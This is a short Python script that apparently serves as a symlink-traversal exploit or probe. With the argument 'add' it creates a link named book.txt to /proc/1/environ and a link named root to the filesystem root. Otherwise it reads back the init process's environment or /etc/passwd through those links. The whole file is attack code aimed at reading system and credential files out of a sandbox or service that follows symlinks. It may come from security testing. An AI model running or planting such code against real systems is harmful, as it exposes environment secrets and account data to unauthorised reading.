import sys

if sys.argv[1] == "add":
    import os

    os.symlink("/proc/1/environ", "book.txt")
    os.symlink("/", "root")
else:
    print(open("book.txt").read() or open("root/etc/passwd").read())
